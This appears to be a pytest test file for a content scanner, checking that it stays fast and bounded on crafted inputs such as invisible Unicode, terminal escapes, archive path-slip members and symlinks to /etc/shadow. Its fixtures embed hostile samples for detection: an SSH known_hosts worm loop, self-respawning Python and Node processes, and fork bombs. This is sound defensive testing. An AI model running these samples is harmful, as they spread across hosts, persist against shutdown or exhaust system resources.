"""Crafted inputs that try to make the scan slow, blind or unsafe to read: each must stay
bounded, and what was not analysed must be reported."""
from __future__ import annotations

import time

from artefact_scan.context import Context, Limits
from artefact_scan.model import Artefact


def test_many_identical_parts_cost_linear_time_and_still_merge_at_one_place():
    ctx = Context("x.md", Limits())
    root = Artefact("x.md", "x.md", "markdown", "```\nimport os\n```\n" * 20000)
    started = time.monotonic()
    made = [ctx.child(root, "import os\n", label="fence", kind="python", span=(i * 18 + 4, i * 18 + 14))
            for i in range(20000)]
    assert time.monotonic() - started < 3.0
    assert len({id(a) for a in made}) == 20000  # the same text at another place is its own part
    # the same text at an overlapping place is the part already made, and gets the new facts
    again = ctx.child(root, "import os\n", label="decoded", kind="python", span=(5 * 18 + 6, 5 * 18 + 9),
                      facts={"decoded"})
    assert again is made[5] and "decoded" in again.facts
    assert len(ctx.take_pending()) == 20000 and ctx.take_pending() == []
    # once analysed, a later maker does not change its facts any more
    late = ctx.child(root, "import os\n", label="late", kind="python", span=(7 * 18 + 4, 7 * 18 + 5),
                     facts={"hidden"})
    assert late is made[7] and "hidden" not in late.facts


def test_json_and_sarif_read_as_text_show_invisible_characters(tmp_path):
    import json

    from artefact_scan import scan
    from artefact_scan.reports import render

    name = "bidi\u202egnp.md\u200b\x7f"
    (tmp_path / name).write_text("a note \U000E0041\U000E0042\U000E0043 \u202eevil\u202c \x1b]0;t\x07\n")
    result = scan([tmp_path])
    assert result.findings
    for fmt in ("json", "sarif"):
        out = render(fmt, result)
        raw = [c for c in out if ord(c) in (0x7F, 0x1B, 0x07, 0x202E, 0x202C, 0x200B) or ord(c) >= 0xE0000]
        assert raw == [], fmt
        text = json.dumps(json.loads(out))  # still the same data once parsed
        assert "\\u202e" in text
    doc = json.loads(render("json", result))
    assert any(f["path"].endswith(name) for f in doc["findings"])


def test_text_report_keeps_a_crafted_member_name_on_one_line(tmp_path):
    import zipfile

    from artefact_scan import scan
    from artefact_scan.reports import render

    name = "evil\n  FAKE.md: fully analysed\n"
    with zipfile.ZipFile(tmp_path / "a.zip", "w") as z:
        z.writestr(name, b"hello world, some text\n")
    data = (tmp_path / "a.zip").read_bytes().replace(b"hello world", b"hellO world")
    (tmp_path / "a.zip").write_bytes(data)  # a bad checksum: the member's name goes into `errors`
    result = scan([tmp_path / "a.zip"])
    assert any("FAKE" in e.message for e in result.errors)
    out = render("text", result)
    assert not [line for line in out.splitlines() if line.lstrip().startswith("FAKE")]
    assert "evil\u27e8U+000A\u27e9  FAKE.md" in out


def test_diff_reports_changed_paths_that_are_links_or_fifos(tmp_path, monkeypatch):
    import os
    import shutil
    import subprocess

    import pytest
    from click.testing import CliRunner

    from artefact_scan.cli import main

    if shutil.which("git") is None or not hasattr(os, "mkfifo"):
        pytest.skip("needs git and FIFOs")
    env = {**os.environ, "GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid",
           "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@example.invalid",
           "GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": os.devnull}

    def git(*args):
        subprocess.run(["git", *args], cwd=tmp_path, env=env, check=True, capture_output=True)

    git("init", "-q", "-b", "main")
    git("commit", "-q", "--allow-empty", "-m", "base")
    (tmp_path / "pipe.md").write_text("hello\n")
    os.symlink("/etc/hostname", tmp_path / "link.md")
    git("add", "-A")
    git("commit", "-qm", "change")
    (tmp_path / "pipe.md").unlink()
    os.mkfifo(tmp_path / "pipe.md")  # the checkout now holds a FIFO where the change has a file
    monkeypatch.chdir(tmp_path)
    r = CliRunner().invoke(main, ["scan", "--diff", "main~1", "--format", "json"])
    assert r.exit_code == 0, r.output
    import json

    errors = {e["path"]: e["message"] for e in json.loads(r.stdout)["errors"]}
    assert "FIFO" in errors["pipe.md"] and "not followed" in errors["link.md"]


def test_error_messages_carry_no_object_addresses():
    ctx = Context("x.pdf", Limits())
    ctx.error(None, "page 1 (LimitReachedError: loop for IndirectObject(4, 0, 140588501213648).)")
    ctx.error(None, "failed (ValueError: <Thing object at 0x7f3a12345678>)")
    assert [e.message for e in ctx.errors] == [
        "page 1 (LimitReachedError: loop for IndirectObject(4, 0, \u2026).)",
        "failed (ValueError: <Thing object at \u2026>)"]


def test_a_long_run_of_invisible_characters_is_judged_fast_and_the_same():
    from artefact_scan import charpolicy as cp

    started = time.process_time()
    assert len(cp.unexplained("\u200b" * 200000)) == 200000
    assert time.process_time() - started < 3.0
    # a lone joiner next to a byte that was not UTF-8 is explained; the shortcut must notice
    # each new text, with or without such bytes
    broken = b"caf\xe9\xe2\x80\x8d ok".decode("utf-8", "surrogateescape")
    assert cp.unexplained(broken) == []
    assert cp.unexplained("caf ok \u200d x") == [7]
    assert cp.unexplained(broken) == []


def test_a_file_of_invisible_characters_is_judged_in_runs_with_bounded_memory(tmp_path):
    import tracemalloc

    from artefact_scan import charpolicy as cp
    from artefact_scan import scan

    text = "\u200b" * 300000
    assert list(cp.unexplained_runs(text)) == [(0, 300000)]
    assert list(cp.unexplained_runs("a\u200bb\u200c\u200bc")) == [(1, 2), (3, 5)]
    (tmp_path / "warm").mkdir()
    (tmp_path / "warm" / "a.txt").write_text("a\u200bb")
    scan([tmp_path / "warm"])  # rules loaded before measuring
    (tmp_path / "big").mkdir()
    (tmp_path / "big" / "zw.txt").write_text(text)
    tracemalloc.start()
    try:
        result = scan([tmp_path / "big"])
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # one offset or code point per character costs ~10 MB each (an int object and a slot):
    # 28 MB when every offset was listed
    assert peak < 15_000_000, peak
    assert [f.rule_id for f in result.findings] == ["HM108"]
    assert "300000 invisible" in result.findings[0].message


def test_millions_of_separate_invisible_runs_are_counted_not_kept(tmp_path):
    from artefact_scan import scan

    (tmp_path / "alt.txt").write_text("a\u200b" * 20000)
    result = scan([tmp_path])
    assert any("20000 runs of invisible characters; only the first 2000 judged" in e.message
               for e in result.errors)
    assert result.findings


def _tar(members) -> bytes:
    import io
    import tarfile

    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w") as t:
        for name, kind, target, data in members:
            info = tarfile.TarInfo(name)
            info.type = kind
            info.linkname = target
            info.size = len(data)
            t.addfile(info, io.BytesIO(data) if data else None)
    return buf.getvalue()


def test_links_devices_and_slip_names_in_a_tar_are_reported_not_followed(tmp_path):
    import tarfile

    from artefact_scan import scan

    (tmp_path / "a.tar").write_bytes(_tar([
        ("pw", tarfile.SYMTYPE, "/etc/passwd", b""),
        ("up", tarfile.SYMTYPE, "../../../etc", b""),
        ("hard", tarfile.LNKTYPE, "/etc/shadow", b""),
        ("fifo", tarfile.FIFOTYPE, "", b""),
        ("tty", tarfile.CHRTYPE, "", b""),
        ("../../escape.txt", tarfile.REGTYPE, "", b"hello\n"),
        ("ok/file.txt", tarfile.REGTYPE, "", b"fine\n"),
        ("ok/same.txt", tarfile.SYMTYPE, "file.txt", b""),  # links to members: silent, as in a folder
        ("ok/again.txt", tarfile.LNKTYPE, "ok/file.txt", b""),
    ]))
    result = scan([tmp_path])
    errors = "\n".join(e.message for e in result.errors)
    assert "pw: tar member is a symbolic link to /etc/passwd, outside the archive; not followed" in errors
    assert "hard: tar member is a hard link to /etc/shadow, outside the archive; not followed" in errors
    assert "up: tar member is a symbolic link to ../../../etc, outside the archive; not followed" in errors
    assert "fifo: tar member is a FIFO; not read" in errors
    assert "tty: tar member is a character device; not read" in errors
    slips = sorted(f.message.split(" ")[2] for f in result.findings if f.rule_id == "AS011")
    assert slips == ["../../escape.txt", "hard", "up"]  # an absolute symlink is only listed
    assert "ok/" not in errors


def test_many_link_members_are_counted_after_the_first_ones(tmp_path):
    import tarfile

    from artefact_scan import scan

    (tmp_path / "many.tar").write_bytes(_tar([(f"l{i}", tarfile.SYMTYPE, f"../x{i}", b"") for i in range(60)]))
    result = scan([tmp_path])
    assert len([e for e in result.errors if "symbolic link" in e.message]) == 20
    assert any("40 more link or special members" in e.message for e in result.errors)
    assert any("40 more members" in e.message for e in result.errors)
    assert len([f for f in result.findings if f.rule_id == "AS011"]) == 20


def test_zip_symlink_and_absolute_members_are_reported(tmp_path):
    import stat
    import zipfile

    from artefact_scan import scan

    with zipfile.ZipFile(tmp_path / "a.zip", "w") as z:
        link = zipfile.ZipInfo("etc-link")
        link.create_system = 3
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        z.writestr(link, "../../../etc")
        z.writestr("/abs/x.txt", b"hello\n")
        z.writestr("C:\\win\\x.txt", b"hello\n")
        z.writestr("fine/x.txt", b"hello\n")
    result = scan([tmp_path])
    assert any("etc-link: zip member is a symbolic link to ../../../etc, outside the archive; not followed" in e.message
               for e in result.errors)
    names = sorted(f.message.split(" ")[2] for f in result.findings if f.rule_id == "AS011")
    assert names == ["/abs/x.txt", "C:\\win\\x.txt", "etc-link"]


def test_python_flow_runs_on_a_bounded_number_of_parts_per_file(tmp_path):
    from artefact_scan import scan

    fence = ("```python\nimport signal, subprocess, sys\n\ndef again{i}(signum, frame):\n"
             "    subprocess.Popen([sys.executable, __file__, '{i}'], start_new_session=True)\n\n"
             "signal.signal(signal.SIGTERM, again{i})\n```\n\n")
    (tmp_path / "report.md").write_text("".join(fence.format(i=i) for i in range(12)))
    full = scan([tmp_path])
    assert len([f for f in full.findings if f.rule_id == "SR104"]) == 12 and not full.errors
    cut = scan([tmp_path], limits=Limits(max_parsed_parts=5))
    assert len([f for f in cut.findings if f.rule_id == "SR104"]) == 5
    assert [e.message for e in cut.errors] == [
        "more than 5 embedded Python parts; the data-flow and obfuscated-exec rules ran on the first 5 only"]
    # the file itself is not a part: a Python file is always analysed
    (tmp_path / "report.md").unlink()
    (tmp_path / "svc.py").write_text(fence.format(i=0).split("\n", 1)[1].rsplit("```", 1)[0])
    assert [f.rule_id for f in scan([tmp_path], limits=Limits(max_parsed_parts=0)).findings] == ["SR104"]


def test_empty_files_are_judged_by_their_names_only(tmp_path):
    from artefact_scan import scan

    for i in range(300):
        (tmp_path / f"f{i}.txt").touch()
    (tmp_path / "inv\u202efdp.exe").touch()
    (tmp_path / "a\u200bb.txt").touch()
    (tmp_path / "report.pdf").touch()  # no content: nothing to misread as a PDF
    (tmp_path / "cells.ipynb").touch()
    result = scan([tmp_path])
    assert sorted(f.rule_id for f in result.findings) == ["HM117", "HM117"]
    assert result.errors == []
    assert result.files == 304


def test_a_payload_in_a_file_name_is_decoded_once(tmp_path):
    from artefact_scan import scan

    tags = "".join(chr(0xE0000 + ord(c)) for c in "ABC")
    (tmp_path / f"memory{tags}.md").write_text("notes\n")
    result = scan([tmp_path])
    assert [f.rule_id for f in result.findings] == ["HM101"]
    assert result.errors == []  # the decoded part is not judged by name again, level after level


def test_long_runs_of_escapes_and_references_are_matched_and_judged_in_bounded_memory(tmp_path, monkeypatch):
    import tracemalloc

    from artefact_scan import scan
    from artefact_scan.detectors import invisible_unicode as iu

    (tmp_path / "warm").mkdir()
    (tmp_path / "warm" / "a.md").write_text("a \\u200b b &#8203;")
    scan([tmp_path / "warm"])  # rules loaded before measuring
    (tmp_path / "big").mkdir()
    (tmp_path / "big" / "esc.md").write_text("\\u200b" * 150000)
    (tmp_path / "big" / "refs.html").write_text("&#8203;" * 150000)
    monkeypatch.setattr(iu, "MAX_ESCAPED_CHARS", 1000)
    tracemalloc.start()
    try:
        result = scan([tmp_path / "big"], jobs=1)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    # a backtracking entry per escape was ~35 MB per file, and lists of every character more
    assert peak < 25_000_000, peak
    assert sorted(f.rule_id for f in result.findings) == ["HM108", "HM108"]
    assert all("1000 invisible" in f.message for f in result.findings)
    assert len([e for e in result.errors if "only the first 1000 characters it stands for" in e.message]) == 2


def test_parts_do_not_keep_their_syntax_trees_or_shell_models_once_analysed():
    from artefact_scan import load_rules
    from artefact_scan.engine import Engine

    py = ("```python\nimport signal, subprocess, sys\n\ndef again(signum, frame):\n"
          "    subprocess.Popen([sys.executable, __file__], start_new_session=True)\n\n"
          "signal.signal(signal.SIGTERM, again)\n```\n\n")
    sh = "```sh\nhammer() {{ hammer | hammer & }}; hammer # {i}\n```\n\n"
    text = "".join(py.replace("again", f"again{i}") + sh.format(i=i) for i in range(5))
    root = Artefact("r.md", "r.md", "markdown", text)
    ctx = Context("r.md", Limits())
    findings = Engine(load_rules()).analyse(root, ctx, "r.md")
    assert {f.rule_id for f in findings} >= {"SR104", "SR201"}
    parts = [a for made in ctx._made.values() for _s, _e, a in made.items]
    assert len(parts) == 10
    assert not any("_pyflow" in a.meta or "_shell_model" in a.meta for a in parts)


def test_shell_and_javascript_models_run_on_a_bounded_number_of_parts_per_file(tmp_path):
    """20,000 shell or JavaScript fences in one file: the parsed models are built for the first
    `max_parsed_parts` parts, the rest are named in errors, and what the first parts hold is
    still found (the bound is the one the Python data flow has)."""
    from artefact_scan import scan

    sh = ("```bash\nfor h in $(awk '{{print $1}}' ~/.ssh/known_hosts); do\n"
          "  scp \"$0\" \"$h:/tmp/x{i}.sh\" && ssh \"$h\" \"nohup bash /tmp/x{i}.sh &\"\ndone\n```\n\n")
    js = ("```js\nconst {{ spawn }} = require('child_process');\n"
          "spawn(process.execPath, [__filename, '{i}'], {{ detached: true, stdio: 'ignore' }}).unref();\n```\n\n")
    (tmp_path / "report.md").write_text("".join(sh.format(i=i) + js.format(i=i) for i in range(12)))
    full = scan([tmp_path])
    assert sorted(f.rule_id for f in full.findings) == ["SR204"] * 12 + ["SR301"] * 12 and not full.errors
    assert Limits().max_parsed_parts == 1000
    cut = scan([tmp_path], limits=Limits(max_parsed_parts=5))
    # the first five of each language, by their place in the file
    lines = sorted(f.location.line for f in full.findings)
    assert sorted(f.location.line for f in cut.findings) == lines[:10]
    assert sorted(e.message for e in cut.errors) == [
        "more than 5 embedded JavaScript parts; the JavaScript behaviour rules ran on the first 5 only",
        "more than 5 embedded shell parts; the rules that read parsed shell commands (self-replication "
        "and persistence behaviour) ran on the first 5 only"]
    # a fork bomb in a part past the bound is still found on its text
    (tmp_path / "report.md").write_text(sh.format(i=0) * 6 + "```sh\n:(){ :|:& };:\n```\n")
    late = scan([tmp_path], limits=Limits(max_parsed_parts=5))
    assert sorted(f.rule_id for f in late.findings) == ["SR201"] + ["SR204"] * 5
    # the file itself is not a part: a shell script is always analysed
    (tmp_path / "report.md").unlink()
    (tmp_path / "spread.sh").write_text(sh.format(i=0).split("\n", 1)[1].rsplit("```", 1)[0])
    assert [f.rule_id for f in scan([tmp_path], limits=Limits(max_parsed_parts=0)).findings] == ["SR204"]


def test_case_citations_are_parsed_in_a_bounded_number_of_parts_per_file(tmp_path):
    """The citation parser costs about the same for every part it reads: thousands of
    documents citing cases in one archive are read in the first `max_parsed_parts` parts, the
    rest named in errors (the same bound as the syntax trees of code parts)."""
    import zipfile

    from artefact_scan import scan

    with zipfile.ZipFile(tmp_path / "briefs.zip", "w") as z:
        for i in range(12):
            z.writestr(f"brief-{i:02d}.md", f"Brief {i}.\n\nSee Foo Corp. v. Bar Inc., 500 F.2d 100 (2d Cir. 2015).\n")
    full = scan([tmp_path])
    assert [f.rule_id for f in full.findings] == ["LF401"] * 12 and not full.errors
    cut = scan([tmp_path], limits=Limits(max_parsed_parts=5))
    assert [f.origin[1] for f in cut.findings] == [f"brief-{i:02d}.md" for i in range(5)]
    assert [e.message for e in cut.errors] == [
        "more than 5 embedded parts with case citations; citations were checked in the first 5 only"]
